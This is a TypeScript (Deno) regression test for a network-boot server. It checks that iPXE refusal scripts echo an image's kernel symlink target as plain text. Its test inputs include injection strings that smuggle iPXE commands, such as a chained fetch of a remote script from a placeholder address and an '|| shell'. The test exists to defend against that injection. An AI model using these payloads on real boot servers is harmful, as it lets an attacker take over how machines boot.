// What the server writes into an iPXE script stays text: iPXE has no quoting, so a word of a
// message that is ||, && or ; runs the rest of the line as a command of its own, a word from # on
// is dropped, and a trailing \ joins the next line. A refusal script echoes why the node cannot
// boot, and an image author writes some of that: a `/vmlinuz` link to a name that is not a file
// is "not bootable: /vmlinuz points to <its target>". Before, an image whose link pointed to
// `gone ; chain http://…/own.ipxe #` made the node chain the author's script instead of
// rebooting (and a target ending in \ swallowed the next line of the script).
import assert from "node:assert/strict";
import { join } from "node:path";
import { Hono } from "hono";
import { defaultConfig } from "../src/config.ts";
import { closeContext, openContext } from "../src/server.ts";
import { bootRoutes } from "../netboot/http.ts";
import { contextBooter } from "../src/boot/booter.ts";
import { setLogSink } from "../src/log.ts";
import { ipxeLines } from "./support/ipxescript.ts";
import { buildSampleTree } from "./images_helpers.ts";
import { publish } from "../src/images/versions.ts";

setLogSink(() => {});

Deno.test("refusal script: an image's kernel link naming iPXE commands is echoed, never run (attacker)", async () => {
  const dir = await Deno.makeTempDir({ prefix: "nr-boot-script-" });
  const ctx = await openContext({ ...defaultConfig(), dataDir: join(dir, "data") });
  try {
    const app = new Hono().route("/boot", bootRoutes(contextBooter(ctx)));
    const env = { remoteAddr: { transport: "tcp", hostname: "127.0.0.1", port: 1 } };
    const targets = [
      "gone ; chain http://203.0.113.9/own.ipxe #",
      "gone && chain http://203.0.113.9/own.ipxe",
      "gone || shell",
      "gone #x",
      "gone \\",
    ];
    for (const [i, target] of targets.entries()) {
      // A bootable first version, deployed on its name; the author's next one, imported under
      // that name: the node does not follow it (not bootable), an admin deploys it with force.
      const name = `evil${i}`;
      const tree = join(dir, name);
      buildSampleTree(tree);
      Deno.writeTextFileSync(join(tree, "etc/hostname"), `${name}\n`); // a version of its own
      await ctx.images.import(tree, name);
      const mac = `52:54:00:f1:01:0${i}`;
      ctx.nodes.add(mac, { image: name });
      Deno.removeSync(join(tree, "vmlinuz"));
      Deno.symlinkSync(target, join(tree, "vmlinuz"));
      await ctx.images.import(tree, name);
      const p = await publish(ctx, ctx.images.get(name), false);
      assert.deepEqual([p.followers.length, p.staying?.length], [0, 1]);
      await ctx.nodes.deploy([mac], name, { reboot: false, force: true });

      const script = await (await app.request(`/boot/${mac}.ipxe`, {}, env)).text();
      assert.ok(script.includes("points to gone"), script);
      // Each line one command, the ones the server wrote: say why, wait, reboot.
      const lines = ipxeLines(script);
      assert.deepEqual(
        lines.map((l) => l.commands.map((c) => c[0])),
        [["echo"], ["echo"], ["sleep"], ["reboot"]],
        `${target}:\n${script}`,
      );
      assert.match(lines[0].commands[0].join(" "), /points to gone .*which is not a file/);
    }
  } finally {
    await closeContext(ctx);
    await Deno.remove(dir, { recursive: true });
  }
});
